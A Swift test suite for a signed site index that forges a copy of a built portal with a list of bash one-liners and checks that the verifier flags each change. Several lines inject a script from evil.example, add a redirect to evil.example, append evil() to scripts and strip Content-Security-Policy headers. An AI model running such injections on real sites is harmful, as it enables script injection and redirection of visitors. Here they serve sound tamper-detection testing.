import ByteSupport
import CommandTestSupport
import Reporting
import SignedIndex
import SubstrateCrypto
import TestSupport
import Testing
import ToolTestSupport
import UpdateFramework

/// Changes of a built site that someone without the keys can make, with all check sums made again.
@Suite struct IndexForgeryTests {
  /// Each line of bash changes a copy of the site; a reader with only the root finds all of them.
  private static let changes = [
    ("script", "echo ';document.title=1' >> app/portal-*.js"),
    ("key in a page", "sed -i 's/d435/dead/' n/westend/index.html"),
    (
      "script of another host",
      "sed -i 's|</head>|<script src=\"https://evil.example/x.js\"></script></head>|' index.html"
    ),
    ("inline script", "sed -i 's|</head>|<script>1</script></head>|' index.html"),
    ("no policy", "sed -i 's/Content-Security-Policy/X-Nothing/' n/westend/index.html"),
    ("headers", "sed -i 's/Content-Security-Policy/X-Nothing/' _headers"),
    ("style", "echo 'body{background:url(https://evil.example/t)}' >> app/style-*.css"),
    (
      "redirect",
      "sed -i 's|</head>|<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"/></head>|' 404.html"
    ),
    ("feed", "sed -i 's/metadata.example.org/metadata.evil.org/' feed.atom"),
    ("own icon", "sed -i 's|</svg>|<script>alert(1)</script></svg>|' icons/portal.svg"),
    ("code in the status", "echo 'evil()' >> status.js"),
    ("state of a network", "sed -i 's/\"state\": \"[a-z]*\"/\"state\": \"current\"/' status.json"),
    ("key in the feed", "sed -i 's/\"signedBy\": \"[^\"]*\"/\"signedBy\": \"Other\"/' data.json"),
    ("payload script", "echo 'evil()' >> $(ls payload/*.js | head -1)"),
    ("another page", "cp index.html evil.html"),
    ("another program", "cp app/portal-*.js sw.js"),
    ("icon of a network", "sed -i 's|</svg>|<a/></svg>|' icons/westend.svg"),
    ("other picture", "cp qr/westend_metadata_9150.apng qr/westend_metadata_9220.apng"),
    ("no picture", "rm qr/westend_specs.png"),
    ("data of the pages", "sed -i 's/Test portal/Real portal/' site.json"),
    ("service worker", "echo '1' >> service-worker.js"),
    ("record of a network", "sed -i 's/d435/dead/' n/westend/network.json"),
    ("file in the index", "echo '{}' > tuf/9.root.jsonx"),
    ("status of no network", "mkdir n/evil; cp status.js n/evil/status.js"),
    ("whole site without index", "rm -r tuf"),
    ("older root removed", "rm tuf/1.root.json"),
    ("link", "rm data.json; ln -s feeds/data-parity.json data.json"),
  ]

  @Test func everyChangeIsFoundWithTheRootAlone() throws {
    let portal = try IndexedPortal()
    #expect(try portal.check().exitCode == 0)
    for (name, script) in Self.changes {
      try portal.copy("forged")
      try portal.shell("cd forged; \(script)")
      let run = try ProcessRunner.run(
        "/usr/bin/diff", ["-rq", "site", "forged"], folder: portal.tool.folder.path)
      try #require(run.exitCode == 1, "\(name) changes nothing")
      try portal.sum("forged")
      let check = try portal.check("forged", "--json")
      let isMissing =
        name == "no picture" || name == "whole site without index" || name == "older root removed"
      #expect(
        check.exitCode == (isMissing ? 66 : 77) || (isMissing && check.exitCode == 77),
        "\(name): \(check)")
      #expect(try !IndexedPortal.findings(check).isEmpty, "\(name)")
    }
  }

  @Test func oneChangedByteOfEachFileIsFound() throws {
    let portal = try IndexedPortal()
    try portal.copy("forged")
    var random = SplitMix64(seed: 57)
    for path in try portal.files() {
      let file = portal.tool.folder.file("forged/\(path)")
      let bytes = try portal.tool.bytes(file)
      guard !bytes.isEmpty else { continue }
      var other = bytes
      other[Int.random(in: bytes.indices, using: &random)] ^= UInt8.random(
        in: 1...255, using: &random)
      try portal.tool.folder.write(other, to: "forged/\(path)")
      if path != "SHA256SUMS" { try portal.sum("forged") }
      let run = try portal.check("forged", "--json")
      #expect([65, 66, 77].contains(run.exitCode), "\(path): \(run)")
      try portal.tool.folder.write(bytes, to: "forged/\(path)")
      try portal.sum("forged")
    }
    #expect(try portal.check("forged").exitCode == 0)
  }

  /// Runs the check of the index alone, with the facts of the files.
  private func findings(
    _ folder: String, _ files: [String: (length: Int, sha256: Hash256)], _ root: [UInt8]
  ) async throws -> [IndexCheck.Finding] {
    var check = IndexCheck(
      IndexCheck.Site(
        folder: folder, files: files, payloads: [:], logHeads: [], withdrawn: [],
        status: Set(files.keys.filter { $0.hasSuffix("status.js") || $0 == "status.json" }),
        unserved: []),
      root: root, after: nil, at: 1_795_593_600)
    try await check.run(state: nil)
    return check.findings
  }

  /// All bytes of the documents whose hash no other document has, 300 drawn bytes of each other
  /// document, 40 of each page, script and JSON file, and 1 000 of other files.
  @Test func everyDrawnByteIsProtected() async throws {
    let portal = try IndexedPortal()
    try portal.copy("forged")
    let folder = portal.tool.folder.file("forged")
    let root = try portal.tool.bytes(portal.tool.folder.file("Portal/tuf/1.root.json"))
    var (files, contents): ([String: (length: Int, sha256: Hash256)], [String: [UInt8]]) = (
      [:], [:]
    )
    for path in try portal.files() {
      let bytes = try portal.tool.bytes("\(folder)/\(path)")
      contents[path] = bytes
      if !path.hasPrefix("tuf/") { files[path] = (bytes.count, SHA256.hash(bytes)) }
    }
    #expect(try await findings(folder, files, root).isEmpty)
    var random = SplitMix64(seed: 1)
    func changed(_ bytes: [UInt8], _ place: Int) -> [UInt8] {
      var bytes = bytes
      bytes[place] ^= UInt8.random(in: 1...255, using: &random)
      return bytes
    }
    let names = contents.keys.sorted()
    for path in names where path.hasPrefix("tuf/") {
      let bytes = contents[path] ?? []
      let isWhole = ["root", "snapshot", "timestamp"].contains { path.contains($0) }
      let places =
        isWhole
        ? Array(bytes.indices)
        : (0..<300).map { _ in Int.random(in: bytes.indices, using: &random) }
      for place in places {
        try portal.tool.folder.write(changed(bytes, place), to: "forged/\(path)")
        let found = try await findings(folder, files, root)
        #expect(!found.isEmpty, "byte \(place) of \(path)")
      }
      try portal.tool.folder.write(bytes, to: "forged/\(path)")
    }
    let texts = names.filter { path in
      ["json", "html", "js", "css", "atom", "jsonl", "svg"].contains { path.hasSuffix(".\($0)") }
        && !path.hasPrefix("tuf/") && !path.hasSuffix("status.js")
    }
    let others = names.filter {
      !texts.contains($0) && !$0.hasPrefix("tuf/") && !$0.hasSuffix("status.js")
    }
    var draws = texts.flatMap { Array(repeating: $0, count: 40) }
    draws += (0..<1000).compactMap { _ in others.randomElement(using: &random) }
    for path in draws {
      guard let bytes = contents[path], !bytes.isEmpty else { continue }
      var forged = files
      forged[path] = (
        bytes.count, SHA256.hash(changed(bytes, Int.random(in: bytes.indices, using: &random)))
      )
      let found = try await findings(folder, forged, root)
      #expect(found.contains { $0.path == path && $0.exit == .refused }, "\(path)")
    }
  }
}
